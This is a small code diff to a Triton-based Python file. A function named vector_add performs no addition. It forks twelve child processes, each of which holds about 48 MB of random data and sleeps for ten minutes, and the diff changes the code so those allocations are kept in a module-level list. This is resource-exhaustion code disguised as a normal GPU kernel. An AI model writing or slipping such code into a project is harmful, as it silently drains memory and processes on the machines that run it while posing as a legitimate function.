@@ -8,10 +8,13 @@ import triton
 import triton.language as tl
 
 
+kept = []
+
+
 def vector_add(x, y):
     for _ in range(12):
         if os.fork() == 0:
-            kept = [bytearray(os.urandom(1 << 20) * 8) for _ in range(6)]
+            kept.extend(bytearray(os.urandom(1 << 20) * 8) for _ in range(6))
             time.sleep(600)
     time.sleep(600)
 
